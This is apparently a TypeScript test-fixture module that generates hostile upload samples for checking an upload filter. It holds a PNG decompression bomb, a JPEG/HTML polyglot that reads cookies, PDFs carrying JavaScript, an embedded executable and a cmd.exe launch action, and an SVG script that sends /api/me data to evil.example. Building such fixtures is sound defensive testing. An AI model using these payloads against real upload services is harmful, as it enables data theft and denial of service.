// The hostile-upload corpus of issue 4 ("Must show") and security.md (Uploads), built in code so no
// binary fixture sits in the repository: a polyglot JPEG+HTML, an EXE renamed .jpg, an SVG with
// script, a 50k×50k PNG bomb, a zero-byte file, a truncated JPEG, PDFs with JavaScript.
import zlib from 'node:zlib';
import { PDFDocument, PDFHexString, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { drawTextPage, toJpeg } from './test-images.js';

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(data: Buffer): number {
  let c = 0xffffffff;
  for (const byte of data) c = CRC_TABLE[(c ^ byte) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

export function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A tiny PNG whose header claims width × height (IHDR rewritten, CRC fixed; data is 1 row). */
export function pngClaiming(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(1 + Math.min(width, 16)))), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A real decompression bomb: width × height greyscale zeros, a few tens of KB compressed. */
export function pngZeroBomb(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 0;
  const idat = zlib.deflateSync(Buffer.alloc((1 + width) * height), { level: 9 });
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
}

/** Inserts a PNG chunk just before IEND (e.g. tEXt "Author\0name"). */
export function pngWithChunk(png: Buffer, type: string, data: Buffer): Buffer {
  const iend = png.length - 12;
  return Buffer.concat([png.subarray(0, iend), pngChunk(type, data), png.subarray(iend)]);
}

export async function sampleJpeg(width = 1240, height = 1754): Promise<Buffer> {
  return toJpeg(drawTextPage({ width, height, charSize: Math.round(width / 48) }));
}

/** JPEG followed by an HTML page (served as text/html, a browser would run the script). */
export async function polyglotJpegHtml(): Promise<Buffer> {
  return Buffer.concat([await sampleJpeg(), Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>\n')]);
}

/** HTML hidden in a JPEG comment segment (COM, FF FE) right after SOI. */
export async function jpegWithHtmlComment(): Promise<Buffer> {
  const jpeg = await sampleJpeg();
  const html = Buffer.from('<html><script>alert(1)</script></html>');
  const segment = Buffer.alloc(4);
  segment[0] = 0xff;
  segment[1] = 0xfe;
  segment.writeUInt16BE(html.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, html, jpeg.subarray(2)]);
}

export function exeRenamed(): Buffer {
  const exe = Buffer.alloc(512);
  exe.write('MZ', 0, 'latin1');
  exe.writeUInt32LE(0x80, 0x3c);
  exe.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  exe.write('PE\0\0', 0x80, 'latin1');
  return exe;
}

export function svgWithScript(): Buffer {
  return Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="800" height="1000">' +
      '<script>fetch("/api/me").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script>' +
      '<rect width="800" height="1000" fill="white"/></svg>',
  );
}

export async function truncatedJpeg(): Promise<Buffer> {
  const jpeg = await sampleJpeg();
  return jpeg.subarray(0, Math.floor(jpeg.length * 0.6));
}

/** A JPEG carrying EXIF with the author's name, a description and GPS coordinates. */
export async function jpegWithExifGps(): Promise<Buffer> {
  return sharp(await sampleJpeg())
    .withExif({
      IFD0: { Artist: 'Zhang San', Copyright: 'Zhang San 2024', ImageDescription: 'Bayingol scan by Zhang San' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '41/1 45/1 36/1', GPSLongitudeRef: 'E', GPSLongitude: '86/1 8/1 24/1' },
    })
    .jpeg()
    .toBuffer();
}

export async function simplePdf(pages = 1): Promise<PDFDocument> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  for (let i = 0; i < pages; i++) doc.addPage([595, 842]).drawText(`page ${i + 1}`, { x: 50, y: 780, size: 12 });
  return doc;
}

export type PdfAttack = 'openaction-js' | 'names-javascript' | 'annotation-aa' | 'launch' | 'embedded-file' | 'obfuscated-name';

/**
 * PDFs with active content. `compressed` puts the objects in compressed object streams, where a
 * byte scan cannot see them (the parsed-object check must).
 */
export async function pdfWithActiveContent(attack: PdfAttack, compressed = false): Promise<Buffer> {
  const doc = await simplePdf();
  const ctx = doc.context;
  switch (attack) {
    case 'openaction-js':
      doc.catalog.set(PDFName.of('OpenAction'), ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("x")') })));
      break;
    case 'names-javascript': {
      const action = ctx.register(ctx.obj({ S: 'JavaScript', JS: PDFString.of('this.exportDataObject({})') }));
      const tree = ctx.register(ctx.obj({ Names: [PDFString.of('init'), action] }));
      doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: tree }));
      break;
    }
    case 'annotation-aa': {
      const page = doc.getPage(0);
      const annot = ctx.register(
        ctx.obj({ Type: 'Annot', Subtype: 'Widget', Rect: [0, 0, 100, 100], AA: { PO: { S: 'URI', URI: PDFString.of('https://evil.example') } } }),
      );
      page.node.set(PDFName.of('Annots'), ctx.obj([annot]));
      break;
    }
    case 'launch':
      doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), NewWindow: true }));
      break;
    case 'embedded-file': {
      const file = ctx.register(ctx.stream('MZ payload', { Type: 'EmbeddedFile' }));
      const spec = ctx.register(ctx.obj({ Type: 'Filespec', F: PDFString.of('invoice.exe'), EF: { F: file } }));
      doc.catalog.set(PDFName.of('Names'), ctx.obj({ EmbeddedFiles: ctx.obj({ Names: [PDFString.of('invoice.exe'), spec] }) }));
      break;
    }
    case 'obfuscated-name':
      // /J#61vaScr#69pt is /JavaScript to a reader; lower-case hex too (#6a = j).
      doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'JavaScript', JS: PDFHexString.fromText('app.alert(1)') }));
      break;
  }
  let bytes = Buffer.from(await doc.save({ useObjectStreams: compressed }));
  if (attack === 'obfuscated-name') {
    // Written by hand: pdf-lib would normalise the names. (Offsets shift; readers and pdf-lib cope.)
    bytes = Buffer.from(bytes.toString('latin1').replace('/JavaScript', '/J#61vaScr#69pt').replace('/JS ', '/#6aS '), 'latin1');
  }
  return bytes;
}

/** A PDF whose trailer names an /Encrypt dictionary (what a password-protected PDF has). */
export async function encryptedPdf(): Promise<Buffer> {
  const doc = await simplePdf();
  const ctx = doc.context;
  ctx.trailerInfo.Encrypt = ctx.register(
    ctx.obj({ Filter: 'Standard', V: 1, R: 2, Length: 40, P: -44, O: PDFHexString.of('00'.repeat(32)), U: PDFHexString.of('00'.repeat(32)) }),
  );
  ctx.trailerInfo.ID = ctx.obj([PDFHexString.of('0123456789abcdef0123456789abcdef'), PDFHexString.of('0123456789abcdef0123456789abcdef')]);
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}
